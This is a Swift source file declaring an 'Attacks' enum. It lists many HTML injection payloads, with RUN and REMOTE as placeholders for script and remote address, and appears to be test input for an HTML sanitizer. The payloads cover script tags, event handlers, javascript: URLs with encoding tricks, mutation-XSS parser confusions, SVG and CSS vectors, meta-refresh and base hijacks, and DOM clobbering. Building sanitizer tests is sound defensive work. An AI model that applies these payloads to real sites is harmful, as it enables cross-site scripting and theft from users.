/// Fragments of HTML that try to run a script, to fetch something or to leave their place.
///
/// In each, `RUN` stands for a script, and `REMOTE` for an address on another machine.
enum Attacks {
  static let all = elements + handlers + addresses + mutations + pictures + styles + documents

  private static let elements = [
    "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<script/x>RUN</script>",
    "<script\n>RUN</script\n>",
    "<scr<script>ipt>RUN</scr</script>ipt>", "<<script>RUN//<</script>", "<script>RUN",
    "\0<scr\0ipt>RUN</script>",
    "<script src=REMOTE></script>", "<script type=module>RUN</script>",
    "</p></section></main><script>RUN</script>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src=\"javascript:parent.RUN\"></iframe>",
    "<iframe src=REMOTE></iframe>",
    "<object data=\"data:text/html,<script>RUN</script>\"></object>",
    "<object data=REMOTE></object>", "<embed src=REMOTE>", "<applet code=REMOTE></applet>",
    "<frameset onload=RUN><frame src=REMOTE></frameset>", "<portal src=REMOTE></portal>",
    "<audio src=REMOTE autoplay></audio>", "<video poster=REMOTE><source src=REMOTE></video>",
    "<track src=REMOTE>", "<bgsound src=REMOTE>", "<isindex type=image src=REMOTE>",
    "<custom-element onclick=RUN autofocus tabindex=0 onfocus=RUN></custom-element>",
  ]

  private static let handlers = [
    "<img src=x onerror=RUN>", "<img src=x:x onerror=\"RUN\">", "<img/src=x/onerror=RUN>",
    "<img src=\"x\"onerror=\"RUN\">", "<img \0src=x \0onerror=RUN>", "<img src=x ONERROR\n=\nRUN>",
    "<img src='data:image/png;base64,AA' onerror=RUN>", "<img src=`x` onerror=RUN>",
    "<img alt='<x' title='>' src=x onerror=RUN>", "<b onmouseover=RUN style=display:block>x</b>",
    "<details open ontoggle=RUN><summary>x</summary></details>", "<body onload=RUN>",
    "<marquee onstart=RUN>x</marquee>",
    "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN></select>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<a href=# autofocus onfocus=RUN tabindex=0>x</a>",
    "<p contenteditable autofocus onfocus=RUN>x</p>", "<div popover onbeforetoggle=RUN>x</div>",
    "<table background=REMOTE onload=RUN><tr><td background=REMOTE>x</table>",
    "<p style='animation:x' onanimationstart=RUN>x</p>", "<video onloadstart=RUN><source></video>",
  ]

  private static let addresses = [
    "<a href=\"javascript:RUN\">x</a>", "<a href=\"JaVaScRiPt:RUN\">x</a>",
    "<a href=\" \u{1}javascript:RUN\">x</a>",
    "<a href=\"java\nscript:RUN\">x</a>", "<a href=\"java&#9;script:RUN\">x</a>",
    "<a href=\"&#106;avascript:RUN\">x</a>",
    "<a href=\"&#0000106avascript&#0000058RUN\">x</a>", "<a href=\"javascript&colon;RUN\">x</a>",
    "<a href=\"data:text/html,<script>RUN</script>\">x</a>", "<a href=\"vbscript:RUN\">x</a>",
    "<a href=\"feed:javascript:RUN\">x</a>", "<img src=\"javascript:RUN\">", "<img src=REMOTE>",
    "<img srcset=\"REMOTE 1x\">",
    "<img src=\"//elsewhere.invalid/x.png\">", "<img src=\"data:text/html,<script>RUN</script>\">",
    "<img lowsrc=REMOTE dynsrc=REMOTE>", "<picture><source srcset=REMOTE><img></picture>",
    "<q cite=\"javascript:RUN\">x</q>",
    "<ins cite=REMOTE>x</ins>", "<a href=x ping=REMOTE>x</a>",
  ]

  private static let mutations = [
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>",
    "<math><style><img src=x onerror=RUN></style></math>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<template><script>RUN</script></template>",
    "<template shadowrootmode=open><img src=x onerror=RUN></template>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=RUN src=x>\">",
    "<title><a title=\"</title><img src=x onerror=RUN>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=RUN>\">",
    "<!--><img src=x onerror=RUN>-->", "<!-- --!><img src=x onerror=RUN>",
    "<![CDATA[<img src=x onerror=RUN>]]>",
    "<svg><![CDATA[><img src=x onerror=RUN>]]></svg>", "<?xml ?><img src=x onerror=RUN>",
    "<!doctype x [<img src=x onerror=RUN>]>",
    "<table><td><svg><desc><td><img src=x onerror=RUN>",
    "<svg><title><style><img src=x onerror=RUN></style></title></svg>",
    "<p id=\"a><img src=x onerror=RUN>\">x", "<select><style></select><img src=x onerror=RUN>",
    "<b title='\"><img src=x onerror=RUN>'>x</b>", "&lt;img src=x onerror=RUN&gt;",
    "&amp;lt;script>RUN&amp;lt;/script>",
    "<plaintext><img src=x onerror=RUN>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>",
  ]

  private static let pictures = [
    "<svg onload=RUN></svg>", "<svg><script>RUN</script></svg>",
    "<svg><script href=\"data:,RUN\"></script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s /></svg>",
    "<svg><set attributeName=onmouseover to=RUN /></svg>",
    "<svg><a xlink:href=\"javascript:RUN\"><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=\"javascript:RUN\" /><text y=9>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=RUN /></svg>#x\" /></svg>",
    "<svg><use href=\"REMOTE#x\" /></svg>", "<svg><image href=REMOTE /></svg>",
    "<svg><image xlink:href=REMOTE onerror=RUN /></svg>",
    "<svg><feImage href=REMOTE /></svg>",
    "<svg><filter id=f><feImage xlink:href=REMOTE /></filter><rect filter=\"url(#f)\" /></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.RUN</script>\"></iframe></foreignObject></svg>",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<svg><rect fill=\"url(REMOTE#x)\" /></svg>",
    "<svg><rect mask=\"url(REMOTE#x)\" /></svg>",
    "<svg><rect style=\"fill:url('REMOTE#x')\" /></svg>",
    "<svg><style>@import 'REMOTE';*{background:url(REMOTE)}</style></svg>",
    "<svg><handler ev:event=load>RUN</handler></svg>",
    "<svg><desc><img src=x onerror=RUN></desc></svg>",
    "<svg><rect cursor=\"url(REMOTE),auto\" /></svg>",
    "<svg xml:base=\"javascript:RUN//\"><a href=\"#\"><text y=9>x</text></a></svg>",
    "<?xml-stylesheet href=\"REMOTE\"?><svg><discard onbegin=RUN /></svg>",
  ]

  private static let styles = [
    "<style>@import 'REMOTE';</style>", "<style>body{background:url(REMOTE)}</style>",
    "<link rel=stylesheet href=REMOTE>",
    "<link rel=preload as=image href=REMOTE>", "<link rel=\"icon prefetch\" href=REMOTE>",
    "<p style=\"background:url(REMOTE)\">x</p>", "<p style=\"background:u\\72l(REMOTE)\">x</p>",
    "<p style=\"background:/**/url(REMOTE)\">x</p>",
    "<p style=\"background:image-set('REMOTE' 1x)\">x</p>",
    "<p style=\"background:-webkit-cross-fade(url(REMOTE),red,50%)\">x</p>",
    "<p style=\"list-style-image:url(REMOTE)\">x</p>",
    "<p style=\"width:expression(RUN)\">x</p>", "<p style=\"-moz-binding:url(REMOTE)\">x</p>",
    "<p style=\"behavior:url(REMOTE)\">x</p>", "<p style=\"content:url(REMOTE)\">x</p>",
    "<p style=\"cursor:url(REMOTE),auto\">x</p>",
    "<p style=\"--x:url(REMOTE);background:var(--x)\">x</p>",
    "<p style=\"background:url(&quot;REMOTE&quot;)\">x</p>",
    "<p style=\"border-image:url(REMOTE) 1\">x</p>", "<p style=\"filter:url(REMOTE#x)\">x</p>",
    "<p style=\"color:red}*{background:url(REMOTE)}\">x</p>",
    "<p style=\"position:fixed;inset:0;z-index:9\">x</p>",
  ]

  private static let documents = [
    "<meta http-equiv=refresh content=\"0;url=REMOTE\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
    "<meta http-equiv=set-cookie content=a=b>", "<base href=REMOTE>",
    "<base target=x href=\"javascript:RUN//\">",
    "<form action=REMOTE><input type=submit autofocus></form>",
    "<form action=\"javascript:RUN\"><button>x</button></form>",
    "<button formaction=\"javascript:RUN\">x</button>", "<input type=image src=REMOTE>",
    "<math href=\"javascript:RUN\">x</math>",
    "<a target=_blank rel=opener href=\"javascript:RUN\">x</a>",
    "<html onload=RUN manifest=REMOTE>", "<head profile=REMOTE>",
    "<img name=querySelector id=querySelector>",
    "<form name=documentElement id=content><input name=hidden></form>",
    "<a id=content name=content>x</a>", "<button class=theme>x</button>",
    "<p id=\"localStorage\">x</p>",
  ]
}
